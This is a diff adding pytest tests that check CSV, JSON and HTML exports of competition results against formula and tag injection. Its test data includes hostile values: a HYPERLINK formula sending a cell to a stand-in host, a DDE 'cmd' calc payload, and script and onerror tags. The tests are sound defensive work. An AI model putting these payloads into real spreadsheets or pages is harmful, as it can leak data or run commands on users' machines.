@@ -106,6 +106,62 @@ def test_any_field_comes_back(value: str) -> None:
     assert list(csv.reader(io.StringIO(text, newline=""), strict=True)) == [["one", "two"], [value, "x"]]
 
 
+HOSTILE = (
+    '=HYPERLINK("http://x.example?"&A1)',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\0=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\uff1d1+1",
+    "'=1+1",
+    "'Old' Ada",
+)
+"""Source of `=`, `+`, `-`, `@`, tab and null: OWASP ASVS 5, 1.2.10; the rest: common practice, no source."""
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_no_cell_is_a_formula(name: str) -> None:
+    """A hostile text, as a value or as a column, begins with an apostrophe; without that one it is what it was."""
+    text = csv_text([{"place": -1, name: name}])
+    head, row = csv.reader(io.StringIO(text, newline=""), strict=True)
+    assert head[1] == row[1] == f"'{name}"
+    assert row[1].removeprefix("'") == name
+    assert (head[0], row[0]) == ("place", "-1")
+
+
+@pytest.mark.parametrize("name", ["Ada", "O'Neil", "A=1", "Jo-Ann", "a@b", "", "12:01.5"])
+def test_a_harmless_cell_has_no_mark(name: str) -> None:
+    """A text that is no formula stands as it is."""
+    assert csv_text([{"name": name, "last": 1}]) == f"name,last\r\n{name},1\r\n"
+
+
+@pytest.mark.parametrize("command", ["results", "standings"])
+@pytest.mark.parametrize("name", ['=cmd|"/C calc"!A0', "@SUM(1)", "+<img src=x onerror=alert(1)>", "-</title><script>"])
+def test_a_hostile_entry_is_harmless_in_every_export(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str, name: str
+) -> None:
+    """A name that is a formula or a tag is marked in CSV, whole in JSON, and only text in HTML."""
+    competition, recording, _ = sled_event(tmp_path)
+    file = competition.read_text(encoding="utf-8")
+    assert file.count("'''Dot'''") == 1
+    competition.write_text(file.replace("'''Dot'''", json.dumps(name)), encoding="utf-8")
+    printed = {
+        form: said(capsys, command, competition, recording, "--format", form) for form in ("csv", "json", "html")
+    }
+    cells = [cell for row in csv.reader(io.StringIO(printed["csv"], newline=""), strict=True) for cell in row]
+    assert f"'{name}" in cells
+    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
+    assert json.dumps(name, ensure_ascii=False) in printed["json"] or json.dumps(name) in printed["json"]
+    page = Tags(printed["html"])
+    assert name in page.words
+    assert page.tags.isdisjoint({"img", "script"})
+
+
 class Tags(HTMLParser):
     """Collects the tags of a page, its attributes' names, and its text."""
 
